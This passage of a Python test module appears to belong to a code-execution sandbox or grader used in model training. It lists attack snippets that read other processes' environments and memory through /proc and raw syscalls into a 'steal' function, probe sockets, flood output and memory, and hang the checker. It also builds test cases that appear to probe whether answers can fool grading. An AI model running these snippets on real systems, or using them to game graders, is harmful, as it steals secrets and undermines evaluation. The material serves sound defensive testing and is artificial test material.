    "folders without permissions": """
for name in ("a", "b"):
    os.mkdir(name)
    os.mkdir(name + "/c", 0)
    os.mkfifo(name + "/fifo")""",
    "many folders": "for number in range(50_000): os.mkdir(str(number))",
    "processes": "for name in os.listdir('/proc'): steal(open(f'/proc/{name}/environ', 'rb').read())",
    "its own process": "steal(open('/proc/self/environ').read(), open('/proc/self/cmdline').read(), os.environ)",
    "a server": """
import socket
socket.create_connection(("127.0.0.1", HOST["port"]), 1).sendall(b"here")""",
    "other sockets": """
import socket
for family in (socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_PACKET):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
            open(HOST["planted"], "w")
            reached("socket", family, kind)
        except OSError:
            pass""",
    "shared memory between processes": """
import ctypes
libc = ctypes.CDLL(None)
print(libc.shmget(4711, 4096, 0o1666), libc.semget(4711, 1, 0o1666), libc.msgget(4711, 0o1666))
print(libc.shm_open(b"/verl-attack", 66, 0o666), libc.mq_open(b"/verl-attack", 66, 0o666, 0))""",
    "the checker's process": """
import ctypes
libc = ctypes.CDLL(None)
for pid in {*range(os.getpid() - 3, os.getpid() + 30)} - {os.getpid()}:
    for call in (os.kill, os.killpg, lambda pid, number: os.close(os.pidfd_open(pid))):
        try:
            call(pid, 0)
            reached("process", pid)
        except OSError:
            pass
    for name in ("mem", "environ", "maps", "fd/0", "fd/3", "fd/4", "cwd", "root/etc/passwd", "syscall", "stack"):
        try:
            steal(open(f"/proc/{pid}/{name}", "rb").read(1 << 20))
            reached("process", pid, name)
        except OSError:
            pass
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    there = (ctypes.c_size_t * 2)(id(gc) // 4096 * 4096, 4096)
    if libc.syscall(310, pid, vector, 1, there, 1, 0) > 0:
        steal(buffer.raw)
        reached("process", pid)""",
    "shared memory with a name": """
import multiprocessing.shared_memory
multiprocessing.shared_memory.SharedMemory(os.path.basename(HOST["planted"]), create=True, size=4096)""",
    "memory files": """
handle = os.memfd_create(os.path.basename(HOST["planted"]))
os.truncate(handle, 1 << 20)
os.link(f"/proc/self/fd/{handle}", HOST["planted"], follow_symlinks=True)""",
    "a core dump": """
import resource
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    reached("limit")
except (OSError, ValueError):
    pass
os.abort()""",
    "the terminal": "import fcntl\nfcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x')",
}

FLOODS = {
    "output without end": "while True: os.write(1, b'x' * 65536)",
    "output without end, signals ignored": """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for _ in range(200):
    try:
        os.write(1, b'x' * 65536)
    except OSError:
        break""",
    "errors without end": "while True: os.write(2, b'x' * 65536)",
    "every descriptor without end": """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for number in range(3, 64):
    try:
        os.set_blocking(number, False)
        for _ in range(200):
            os.write(number, b'x' * 65536)
    except OSError:
        pass""",
    "output that hides": "os.write(1, b'\\x1b[2K\\r\\x00\\xff\\xfe\\xe2\\x80\\xa8' * 1000)",
    "a file without end": "with open('file', 'wb') as file:\n    while True: file.write(b'x' * 65536)",
    "memory": "kept = []\nwhile True: kept.append(bytearray(256 << 20))",
    "threads": """
import threading
for _ in range(2000):
    threading.Thread(target=threading.Event().wait, daemon=True).start()""",
}

SLOW = {
    "a loop": "while True: pass",
    "a loop that catches all": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "a loop that ignores signals": """
import signal
for number in range(1, 32):
    if number not in (9, 19):
        signal.signal(number, signal.SIG_IGN)
while True: pass""",
    "sleep": "import time\ntime.sleep(600)",
    "a thread that stays": "import threading\nthreading.Thread(target=threading.Event().wait).start()",
    "stop": "import signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "compiled code that does not return": "import re\nre.match('(a+)+$', 'a' * 64 + 'b')",
    "a sleep at the end": "import atexit, time\natexit.register(time.sleep, 600)",
    "an error that takes for ever to print": """
class Slow(Exception):
    def __str__(self):
        while True: pass
raise Slow""",
    "the end of the stack": "sys.setrecursionlimit(10**8)\ndef down(): return down()\ndown()",
    "an object that takes for ever to go": """
class Slow:
    def __del__(self):
        while True: pass
sys.kept = Slow()""",
    "a length, and nothing behind it": _bytes('[b"\\0\\1\\0\\0"]') + "\nimport time\ntime.sleep(600)",
    "a byte at a time": _bytes(
        '((__import__("time").sleep(0.05), each)[1] for each in map(bytes, zip(frame("value", ""))))'
    ),
    "questions without end": f"""{_PEERS}
for peer in list(peers.values()):
    while True:
        try:
            peer.ask("get", f, "x")
        except Exception:
            pass""",
    "a generator without end": "import itertools\nANSWER = (letter for letter in itertools.repeat('x'))",
    "dict keys of one hash": _forged('["dict", 0, KEYS]'),
    "a number that takes for ever to print": "sys.set_int_max_str_digits(0)\nANSWER = 7 ** 10_000_000",
}

QUICK = BUILTINS | FRAMES | OBJECTS | MODULES | ENDS | MEMORY | DESCRIPTORS | EXCHANGE | TRUST | HOST | FLOODS
ATTACKS = QUICK | SLOW
TAILS = {
    "an open string": 'x = """',
    "an open bracket": "x = (",
    "a block that does not run": "if 0:",
    "a line that goes on": "x = 1 \\",
    "an open function": "def rest():",
    "an open try": "try:\n    raise SystemExit(0)\nexcept SystemExit:",
    "a comment": "#",
}
"""Ends of a program that swallow what is put behind it."""


@dataclass(frozen=True)
class Host:
    """Things outside that no program may reach: a file, a process, a server, and a file that must not appear."""

    secret: str
    planted: str
    pid: int
    port: int


def program(host: Host, names: list[str], at_load: bool = False, from_stdin: bool = False) -> str:
    """Return a program whose function ``f(name)`` runs one of the named attacks.

    Args:
        at_load: run the (only) attack when the program loads as well.
        from_stdin: read the name from standard input and print the result.
    """
    chosen = {name: ATTACKS[name] for name in names}
    parts = [
        f"HOST = {vars(host)!r}",
        f"PATTERN = {WORD!r}.encode()",
        f"ATTACKS = {chosen!r}",
        HEAD,
    ]
    if at_load:
        parts.append(f"attempt({names[0]!r})")
    if from_stdin:
        parts.append("print(f(input()))")
    code = "\n".join(parts) + "\n"
    for each in (code, *chosen.values()):
        compile(each, "an attack", "exec")  # one that does not compile would look like one that fails
    return code


KINDS = ("stdin", "function", "assertion", "check", "solution", "element", "both", "bounds", "mapped")


def task(kind: str, words: dict[str, str]) -> dict[str, object]:
    """Return test cases of one kind: one case for each attack, whose expected answer is a word.

    Raises: ValueError for an unknown kind.
    """
    if kind == "stdin":
        return {"inputs": [f"{name}\n" for name in words], "outputs": list(words.values())}
    if kind == "function":
        return {"fn_name": "f", "inputs": [[name] for name in words], "outputs": list(words.values())}
    if kind == "assertion":
        return {"assert_case": [f"assert f({name!r}) == {json.dumps(word)}" for name, word in words.items()]}
    if kind == "check":
        return {"assert_case": [_check(name, word) for name, word in words.items()]}
    if kind == "solution":
        return {"assert_case": [_solution(name, word) for name, word in words.items()]}
    if kind == "element":
        return {"assert_case": [_element(name, word) for name, word in words.items()]}
    if kind == "both":
        return {"assert_case": [_both(name, word) for name, word in words.items()]}
    if kind == "bounds":
        return {"assert_case": [_bounds(name, word) for name, word in words.items()]}
    if kind == "mapped":
        return {"assert_case": [_mapped(name, word) for name, word in words.items()]}
    raise ValueError(f"unknown kind {kind!r}: write one of {KINDS}")


def _check(name: str, word: str) -> str:
    """Return a test that cannot be written as an equation."""
    return f"""def check(candidate):
    result = candidate({name!r})
    import hmac, secrets, statistics
    assert result in [{word!r}], f"{{result}}, {{result!r:>9}}, {{result!s}}, not {word}, %s" % (result,)
    assert sorted(result) == sorted({word!r})
    assert len(result) == {len(word)} and result.startswith({word[:5]!r})
check(f)"""


def _solution(name: str, word: str) -> str:
    """Return a test that asks the result itself, which may be an object of the class that it names."""
    return f"""result = Solution().f({name!r})
assert {word!r} in result
assert result.startswith({word!r}) and len(result) == {len(word)}"""


def _element(name: str, word: str) -> str:
    """Return a test that asks an element of what a method returns."""
    return f"""first = list(Solution().f({name!r}))[0]
assert {word!r} in first or first == {word[0]!r}"""


def _both(name: str, word: str) -> str:
    """Return a test that names a class and asks what a function returns."""
    return f"""assert Solution() is not None
result = f({name!r})
assert {word!r} in result and result.startswith({word!r})"""


def _bounds(name: str, word: str) -> str:
    """Return a test that compares a result with two bounds."""
    return f"""result = f({name!r})
assert result >= {word!r}
assert result <= {word!r}"""


def _mapped(name: str, word: str) -> str:
    """Return a test that calls the function through an iterator."""
    return f"""assert all(one == other for one, other in zip(map(f, [{name!r}]), [{word!r}]))
assert all(map(lambda given: f(given) == {word!r}, [{name!r}]))
for result in map(f, [{name!r}]):
    assert result == {word!r}"""
